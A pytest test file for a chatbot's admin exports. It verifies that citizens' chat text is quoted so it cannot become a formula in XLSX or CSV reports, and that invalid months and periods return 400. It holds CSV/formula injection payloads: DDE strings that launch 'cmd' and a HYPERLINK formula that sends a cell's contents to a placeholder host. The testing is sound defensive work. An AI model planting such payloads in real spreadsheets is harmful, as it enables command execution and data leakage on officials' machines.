"""Issue 19, item 2: what a citizen types cannot become a formula in the monthly workbook, its
CSV or the contest submissions CSV; and item 8: an impossible month is a clear 400."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from tests.fakes.channels import Channels, fb_text, login

VIETNAM = timezone(timedelta(hours=7))
# What an attacker types in a chat, hoping an official opens the export in Excel.
PAYLOADS = ["=1+2*3", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0"]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def no_formula_in_workbook(raw: bytes) -> list[str]:
    """Every text cell of the workbook; fails if any cell is a formula."""
    texts = []
    for sheet in load_workbook(io.BytesIO(raw)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    # Shown as written, but marked as text for whoever edits the cell.
                    if cell.value.startswith(RISKY):
                        assert cell.quotePrefix, (sheet.title, cell.value)
                    texts.append(cell.value)
    return texts


def no_formula_in_csv(raw: bytes) -> list[str]:
    fields = [f for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for f in row]
    assert not [f for f in fields if f.startswith(RISKY)]
    return fields


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+2*3", "'=1+2*3"),
        ("  =1+2", "'  =1+2"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("@x", "'@x"),
        ("bình thường", "bình thường"),
        (-3, -3),
    ],
)
def test_risky_text_is_quoted_and_numbers_are_kept(typed: object, written: object) -> None:
    from bot.admin.exports import cell_value

    assert cell_value(typed) == written


async def test_citizens_text_is_never_a_formula_in_the_monthly_report(channels: Channels) -> None:
    # One citizen each: two misunderstood messages in a row hand the conversation to a person.
    psids = [f"730{i}" for i in range(len(PAYLOADS))]
    channels.consented("facebook", *psids)
    for i, (psid, text) in enumerate(zip(psids, PAYLOADS, strict=True)):
        assert (await channels.post_facebook(fb_text(psid, text, f"m_x{i}"))).status == 200
    await channels.graph.wait_messages(len(PAYLOADS))
    await asyncio.sleep(0.5)
    await login(channels)
    month = f"{datetime.now(VIETNAM):%Y-%m}"
    stats = await (await channels.client.get(f"/admin/api/stats?from={month}-01")).json()
    unanswered = {q["text"] for q in stats["unanswered"]}
    # The texts do reach the report (where unanswered questions are grouped lower-cased).
    assert unanswered & {p.lower() for p in PAYLOADS}, unanswered
    workbook = await channels.client.get(f"/admin/report?month={month}&format=xlsx")
    assert workbook.status == 200
    cells = no_formula_in_workbook(await workbook.read())
    for text in unanswered & set(PAYLOADS):
        assert text in cells  # kept readable, as text
    as_csv = await channels.client.get(f"/admin/report?month={month}&format=csv")
    fields = no_formula_in_csv(await as_csv.read())
    for text in unanswered & set(PAYLOADS):
        assert "'" + text in fields


async def test_contest_entries_are_never_a_formula_in_their_csv(channels: Channels) -> None:
    await login(channels)
    page = await (await channels.client.get("/admin/events")).text()
    csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    deadline = (datetime.now(VIETNAM) + timedelta(days=20)).date()
    await channels.client.post(
        "/admin/contest",
        data={
            "csrf": csrf,
            "title": "Cuộc thi viết",
            "rules": "Một câu chuyện thật.",
            "link": "",
            "deadline": deadline.isoformat(),
        },
    )
    channels.consented("facebook", "7399")
    steps = [
        ("Gửi bài", "/contest_submit"),
        ('=HYPERLINK("http://x.example/?"&A1,"Bấm vào") ' + "chuyện thật ở xã " * 12, None),
        ("=1+2*3 Hoa", None),
        ("ninh hai", None),
    ]
    for i, (text, payload) in enumerate(steps):
        await channels.post_facebook(fb_text("7399", text, f"m_k{i}", quick_reply=payload))
        await channels.graph.wait_messages(i + 1)
        await asyncio.sleep(0.3)
    export = await channels.client.get("/admin/contest/submissions.csv")
    fields = no_formula_in_csv(await export.read())
    assert "'=1+2*3 Hoa" in fields
    assert any(f.startswith("'=HYPERLINK(") for f in fields)


@pytest.mark.parametrize(
    "month",
    ["9999-12", "0001-01", "2026-13", "2026-00", "１２３４-05", "2026-1", "2026-10\n", "x"],
)
async def test_an_impossible_month_is_a_clear_400(channels: Channels, month: str) -> None:
    await login(channels)
    for fmt in ("xlsx", "csv"):
        resp = await channels.client.get("/admin/report", params={"month": month, "format": fmt})
        assert resp.status == 400, (month, resp.status)
        assert "Tháng không hợp lệ" in await resp.text()


@pytest.mark.parametrize(
    ("start", "end"),
    [("9999-12-01", "9999-12-31"), ("0001-01-01", "0001-01-31"), ("9999-12-31", "")],
)
async def test_an_impossible_period_is_a_clear_400(
    channels: Channels, start: str, end: str
) -> None:
    await login(channels)
    query = {"from": start, **({"to": end} if end else {})}
    api = await channels.client.get("/admin/api/stats", params=query)
    assert api.status == 400
    assert "năm" in (await api.json())["error"]
    page = await channels.client.get("/admin", params=query)
    assert page.status == 400
    assert "Khoảng thời gian không hợp lệ" in await page.text()
